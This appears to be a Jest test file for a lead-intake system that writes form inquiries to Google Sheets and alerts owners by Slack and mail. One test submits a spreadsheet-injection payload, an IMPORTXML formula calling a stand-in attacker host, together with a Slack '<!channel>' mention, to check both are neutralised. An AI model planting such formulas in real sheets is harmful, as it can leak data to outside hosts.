import type { Assignment } from '../../nodes/core/lead';
import type { Fault, Where } from '../standIns/faults';
import { sheetsTemplate } from '../workflows/templates';
import { waysMissed } from './coverage';
import { actBy, addressIn, eventually, plainServer, queueServer } from './desk';
import { answersOf, formTools, several } from './formTools';
import { recordsOf, shortTimes, stepsApart } from './ladder';
import { nameOf } from './people';
import { openSheetsDesk, type Row, type SheetsDesk } from './sheetsDesk';
import { allOnce, comeWhileAway } from './outage';
import { outage, tried } from './tried';
import { emailOf, phoneOf, shortWait, statesOf } from './vendorDesk';

jest.setTimeout(outage.testMs);

const post = formTools.Tally ?? (() => ({}));

const rowOf = (rows: readonly Row[], name: string) =>
	rows.filter(({ Email: email }) => email === emailOf(name));

const steps = ['Row in the sheet', 'Alert', 'Alert in Slack', 'Confirmation'];
const allDone = Object.fromEntries(steps.map((step) => [step, 'done']));

/** What everybody has of one person, and how often. */
async function effectsFor(desk: SheetsDesk, name: string) {
	const { slack, mail } = await desk.account.records();
	const alerts = (await desk.messages()).filter(
		({ subject, to }) =>
			subject === `New lead: ${name}` &&
			to.some((address) => address.endsWith(addressIn(desk.workspace, ''))),
	);
	return {
		row: rowOf(await desk.rows(), name).length,
		chat: slack.messages.filter(({ text }) => text.startsWith(`*${name}*`)).length,
		alert: alerts.length,
		confirmation: mail.messages.filter(({ to }) => to.includes(emailOf(name))).length,
	};
}

const once = { row: 1, chat: 1, alert: 1, confirmation: 1 };

const assignmentOf = async (desk: SheetsDesk, name: string) =>
	((await desk.itemOf(name)) as { assignment?: Assignment } | undefined)?.assignment;

let desk: SheetsDesk;

/** All that were opened, whose ways are counted at the end. */
const desks: SheetsDesk[] = [];

const opened = async (...asked: Parameters<typeof openSheetsDesk>) => {
	const made = await openSheetsDesk(...asked);
	desks.push(made);
	return made;
};

/** The rows that people have written by hand before there was a desk; the second one is the desk's. */
const before = [
	['Name', 'Email', 'Owner', 'Stage', 'Lead ID'],
	['Known by Hand', emailOf('Known By Hand'), 'Cy Diaz', 'Customer', ''],
	['Known by ID', emailOf('Known By Id'), 'Bo Chan', 'Open', 'row-77'],
	['Of Zed', emailOf('Of Zed'), 'Zed Gone', 'Open', 'row-78'],
	['Of Nobody', emailOf('Of Nobody'), '', '', 'row-79'],
];

beforeAll(async () => {
	desk = await opened(plainServer(), 'sheets', { leads: before });
});
afterAll(async () => await desk?.close());

describe('an inquiry that a form tool posts', () => {
	test.each(Object.entries(formTools))(
		'%s: is answered, gets one row, an owner in turn, mail and Slack',
		async (tool, payload) => {
			const name = `Ada ${tool}`;
			const { status, answer } = await desk.post(payload(answersOf(name)));
			expect([status, answer]).toEqual([200, { received: true, inquiry: expect.any(String) }]);
			expect(statesOf(await desk.settled(name))).toEqual(allDone);
			expect(await effectsFor(desk, name)).toEqual(once);
			const [row] = rowOf(await desk.rows(), name);
			const owner = (await assignmentOf(desk, name))?.owner;
			expect(row).toMatchObject({
				...{ Name: name, Phone: phoneOf(name), Message: answersOf(name).message },
				...{ Owner: owner?.name, 'Owner Email': owner?.email, 'Lead ID': expect.any(String) },
				'Last Inquiry': expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d$/),
			});
		},
	);

	test('once more is answered the same, and does nothing', async () => {
		const name = 'Said Twice';
		const first = await desk.post(post(answersOf(name)));
		await desk.settled(name);
		expect(await desk.post(post(answersOf(name)))).toEqual(first);
		expect(await effectsFor(desk, name)).toEqual(once);
	});

	test('without the header is turned away, and kept nowhere', async () => {
		expect((await desk.postAsStranger(post(answersOf('A Stranger')))).status).toBe(403);
		expect(await recordsOf(desk, 'A Stranger')).toBeUndefined();
	});

	test('keeps the key of the senders to itself', async () => {
		expect(JSON.stringify(await desk.itemOf('Ada Tally'))).not.toContain('of the stand-ins');
	});

	test('tells its owner in Slack with a button, which opens the form', async () => {
		const { slack } = await desk.account.records();
		const [message] = slack.messages.filter(({ text }) => text.startsWith('*Ada Tally*'));
		expect(message).toMatchObject({
			channel: expect.stringMatching(/^U0OWNER/),
			text: expect.not.stringContaining('token='),
			links: [expect.stringContaining('/form/sheets-acted?token=')],
		});
		const page = await actBy(desk, new URL(message?.links[0] ?? ''));
		expect(page).toContain('Ada Tally');
		const [clock] = (await recordsOf(desk, 'Ada Tally'))?.clocks ?? [];
		expect(clock?.state).toBe('stopped');
	});

	test('writes what looks like a formula as what it is, and what would call everybody in Slack', async () => {
		const name = 'Mallory Sums';
		const message = '=IMPORTXML("https://evil.example") quote for licences, please. <!channel>';
		await desk.post(post(answersOf(name, { message })));
		await desk.settled(name);
		expect(rowOf(await desk.rows(), name)).toMatchObject([{ Message: message }]);
		const { slack } = await desk.account.records();
		const [told] = slack.messages.filter(({ text }) => text.startsWith(`*${name}*`));
		expect(told?.text).toContain('&lt;!channel&gt;');
	});

	test.each([
		['Known By Hand', 'Cy Diaz', /^Cy Diaz owns this lead in Google Sheets/, 'Customer'],
		['Known By Id', 'Bo Chan', /^Bo Chan owns this lead in Google Sheets/, 'Open'],
		[
			'Of Zed',
			undefined,
			/^Zed Gone, who owns it in Google Sheets, is not in the Owners table; /,
			'Open',
		],
		['Of Nobody', undefined, /turn/i, ''],
	])(
		'of %s, who is in the sheet, goes to whoever owns them there, into the same row',
		async (name, owner, reason, stage) => {
			await desk.post(post(answersOf(name)));
			await desk.settled(name);
			const assignment = await assignmentOf(desk, name);
			expect(assignment?.reason).toMatch(reason);
			if (owner) expect(assignment?.owner?.name).toBe(owner);
			expect(rowOf(await desk.rows(), name)).toMatchObject([
				{ Owner: assignment?.owner?.name, Stage: stage, 'Lead ID': expect.stringMatching(/./) },
			]);
		},
	);

	test('goes to whom somebody has written into the row since', async () => {
		const name = 'Handed Over';
		await desk.post(post(answersOf(name)));
		await desk.settled(name);
		const [names = [], ...rows] = await desk.cells();
		const [email, owner] = ['Email', 'Owner'].map((column) => names.indexOf(column));
		const row = rows.find((cells) => cells[email ?? 0] === emailOf(name)) ?? [];
		const other = row[owner ?? 0] === 'Bo Chan' ? 'Cy Diaz' : 'Bo Chan';
		row[owner ?? 0] = other;
		await desk.account.writeSheet('Leads', [names, ...rows]);
		const again = answersOf(name, { message: 'And what would fifty licences be, please?' });
		await desk.post(post(again));
		await eventually('the row to say what they ask now', async () =>
			rowOf(await desk.rows(), name).some(({ Message: said }) => said === again.message),
		);
		const who = other === 'Bo Chan' ? 'bo' : 'cy';
		expect(rowOf(await desk.rows(), name)).toMatchObject([
			{ Owner: other, 'Owner Email': addressIn('sheets', who) },
		]);
	});

	test('ten in one post, known and new ones mixed: each has one row, and the right owner', async () => {
		const names = Array.from({ length: 7 }, (_, n) => nameOf(700 + n));
		names.splice(2, 0, 'Known By Id');
		names.splice(5, 0, 'Ada Webflow', 'Known By Hand');
		const again = 'We need twelve more licences, please send a quote for those.';
		const all = names.map((name) => answersOf(name, { message: again }));
		const kept = await assignmentOf(desk, 'Ada Webflow');
		expect((await desk.post(several(all))).status).toBe(200);
		for (const name of names)
			expect(statesOf(await desk.settled(name))).toMatchObject({ 'Row in the sheet': 'done' });
		const rows = await desk.rows();
		for (const name of names) {
			const owner = (await assignmentOf(desk, name))?.owner?.name;
			expect(rowOf(rows, name)).toMatchObject([{ Owner: owner, Message: again }]);
		}
		expect((await assignmentOf(desk, 'Known By Id'))?.owner?.name).toBe('Bo Chan');
		expect((await assignmentOf(desk, 'Known By Hand'))?.owner?.name).toBe('Cy Diaz');
		expect((await assignmentOf(desk, 'Ada Webflow'))?.owner?.name).toBe(kept?.owner?.name);
	});

	test('that says nothing yet has a row of nobody, and a receipt', async () => {
		const name = 'Quiet One';
		await desk.post(post(answersOf(name, { message: '', phone: '' })));
		expect(statesOf(await desk.settled(name))).toEqual({
			'Row in the sheet': 'done',
			Receipt: 'done',
		});
		expect(rowOf(await desk.rows(), name)).toMatchObject([{ Name: name }]);
		expect(await effectsFor(desk, name)).toEqual({ ...once, chat: 0, alert: 0 });
	});

	test('without an email has one row, by its ID', async () => {
		const name = 'Only Phone';
		const { status } = await desk.post(post(answersOf(name, { email: '' })));
		expect(status).toBe(200);
		await eventually('the row of who gave no email', async () => {
			return (await desk.rows()).some((row) => row.Name === name && row.Email === '');
		});
	});

	test.each([
		['nobody can be reached', answersOf('Nobody Reachable', { email: '', phone: 'call me maybe' })],
		[
			'somebody asks for support',
			answersOf('Sue Support', { message: 'My password reset does not work, the app crashes.' }),
		],
		[
			'somebody advertises',
			answersOf('Seo Sam', {
				message: 'We offer SEO services and backlinks, first page of Google guaranteed.',
			}),
		],
	])('where %s is answered all the same, and has no row', async (_what, answers) => {
		const rows = (await desk.rows()).length;
		const { status, answer } = await desk.post(post(answers));
		expect([status, answer]).toEqual([200, { received: true, inquiry: expect.any(String) }]);
		await desk.mail();
		expect(await desk.rows()).toHaveLength(rows);
	});

	test('of who may be somebody known is looked at by a person, and answered', async () => {
		const same = { phone: '+4915123456780', message: 'Two vans for our offices, please.' };
		await desk.post(post(answersOf('Paula Twice', same)));
		const other = { ...same, message: 'Please send a quote for office chairs.' };
		const { status } = await desk.post(post(answersOf('Robert Other', other)));
		expect(status).toBe(200);
		const told = await eventually('the desk to be asked', async () => {
			const mails = await desk.mail(addressIn('sheets', 'lead-desk'));
			return mails.find(({ subject }) => subject.includes('Robert Other'));
		});
		expect(told.subject).toMatch(/^Please look/);
	});

	test('by a link that is none: the form says so, and stops no clock', async () => {
		const link = new URL(`${plainServer().baseUrl}/form/sheets-acted?token=guessed`);
		expect(await actBy(desk, link)).not.toContain('Ada');
	});

	test('leaves no complaint, and nothing in vain', async () => {
		const { complaints, calls } = await desk.account.records();
		expect(complaints).toEqual([]);
		expect(calls.filter(({ worked }) => !worked)).toEqual([]);
	});
});

test('nobody acts: the row has its new owner, and what people wrote into it stays', async () => {
	const late = await opened(plainServer(), 'sheets-ladder', {
		change(template) {
			shortTimes(template);
			stepsApart(template, 4);
		},
	});
	try {
		await late.post(post(answersOf('Left Alone')));
		await eventually('the new owner to be told everywhere', async () => {
			const all = await late.deliveriesOf('Left Alone');
			const ofNew = all.filter(({ step }) => /^New owner/i.test(step));
			return ofNew.length === 3 && ofNew.every(({ state }) => state === 'done');
		});
		const [first, second] = (await recordsOf(late, 'Left Alone'))?.owners ?? [];
		expect(second).not.toBe(first);
		expect(await late.rows()).toMatchObject([
			{ Name: 'Left Alone', 'Owner Email': second, Message: answersOf('').message },
		]);
		await eventually('the queue to have it at last', async () =>
			(await late.messages()).some(
				({ subject, to }) =>
					subject.includes('Nobody has answered Left Alone') &&
					to.includes(addressIn('sheets-ladder', 'lead-desk')),
			),
		);
		expect((await late.account.records()).complaints).toEqual([]);
	} finally {
		await late.close();
	}
});

// A run that fails is told in the log of who runs it: of this server, a worker.
const server = queueServer();
(server ? describe : describe.skip)('when somebody does not do it', () => {
	let away: SheetsDesk;
	beforeAll(async () => {
		if (!server) return;
		const { credential, store: settings } = server;
		away = await opened(server, 'sheets-faults', {
			change: shortWait,
			store: { credential, settings },
		});
		// The team is known from here on, also while the sheet is away.
		await away.post(post(answersOf('Before All')));
		await away.settled('Before All');
	});
	afterAll(async () => await away?.close());

	let people = 800;
	const calls = (path: string, first: number): Where => ({ vendor: 'googleSheets', path, first });

	test.each(
		tried<[string, Fault, Where]>(
			[
				['cannot be reached at all', { kind: 'away' }, calls('', 4)],
				['loses the answer to a new row', { kind: 'answer lost' }, calls('append', 1)],
			],
			[
				['has too many', { kind: 'status', status: 429 }, calls('', 4)],
				['cannot be read', { kind: 'status', status: 500 }, calls('^GET', 3)],
				['lets nobody in', { kind: 'status', status: 401 }, calls('^GET', 2)],
				['is not found', { kind: 'status', status: 503, html: true }, calls('values', 2)],
				[
					'fails after it has written',
					{ kind: 'status', status: 500, worked: true },
					calls('append', 1),
				],
			],
		),
	)('a sheet that %s loses no lead and doubles no row', async (_what, fault, where) => {
		const name = nameOf(people++);
		const lift = await away.account.fail(fault, where);
		expect((await away.post(post(answersOf(name)))).status).toBe(200);
		const all = await away.settled(name);
		await lift();
		expect(statesOf(all)).toEqual(allDone);
		expect(await effectsFor(away, name)).toEqual(once);
	});

	test('away while many come, then one answer lost: each has its row once', async () => {
		const all = await comeWhileAway({
			...{ desk: away, vendor: 'googleSheets', lost: calls('append', 1) },
			...{ once, effectsFor: async (name) => await effectsFor(away, name) },
			next: () => nameOf(people++),
			send: async (names) => await away.post(several(names.map((name) => answersOf(name)))),
		});
		expect(all).toEqual(allOnce);
	});

	test('a search that takes long holds no lead: it goes on without after its waiting time', async () => {
		const name = nameOf(people++);
		const slow = { kind: 'slow', ms: 12_000 } as const;
		const lift = await away.account.fail(slow, calls('^GET .*values', 1));
		const answer = away.post(post(answersOf(name)));
		const all = await eventually(
			'the lead to be with somebody',
			async () => {
				const queued = await away.deliveriesOf(name);
				return queued.length > 0 && queued;
			},
			10_000,
		);
		expect(all.map(({ step }) => step).toSorted()).toEqual(steps.toSorted());
		expect((await answer).status).toBe(200);
		await away.settled(name);
		await lift();
		expect(await effectsFor(away, name)).toEqual(once);
	});

	test.each([
		['by mail', false],
		['in Slack, while the mail server is away', true],
	])(
		'a row that Google refuses is this lead’s matter: the desk reads why %s',
		async (_where, noMail) => {
			const name = nameOf(people++);
			const says = `Row of ${name} is protected`;
			const lifts = [
				await away.account.fail({ kind: 'status', status: 400, says }, calls('append', 1)),
				...(noMail
					? [
							await away.account.fail(
								{ kind: 'status', status: 421 },
								{ vendor: 'mail', path: 'CONNECT' },
							),
						]
					: []),
			];
			await away.post(post(answersOf(name)));
			await eventually('the desk to be asked', async () => {
				const { slack } = await away.account.records();
				const told = noMail
					? slack.messages.map(({ channel, text }) => (channel === 'C0LEADS0001' ? text : ''))
					: (await away.messages()).map(({ to, text }) =>
							to.includes(addressIn('sheets-faults', 'lead-desk')) ? text : '',
						);
				return told.some((text) => text.includes(says));
			});
			for (const lift of lifts) await lift();
			expect(statesOf(await away.settled(name))).toEqual({
				...allDone,
				'Row in the sheet': 'refused',
			});
		},
	);

	test('an owner whom Slack does not know is told in the channel, with the button', async () => {
		const name = nameOf(people++);
		const lift = await away.account.fail(
			{ kind: 'status', status: 400, says: 'users_not_found' },
			{ vendor: 'slack', path: 'lookupByEmail' },
		);
		await away.post(post(answersOf(name)));
		await away.settled(name);
		await lift();
		const { slack } = await away.account.records();
		const sent = slack.messages.filter(({ text }) => text.startsWith(`*${name}*`));
		expect(sent).toMatchObject([{ channel: 'C0LEADS0001', links: [expect.any(String)] }]);
	});
});

(server ? test : test.skip)(
	'takes every way through the template, or it is said why not',
	async () => {
		expect(await waysMissed(sheetsTemplate(), desks)).toEqual([]);
	},
);
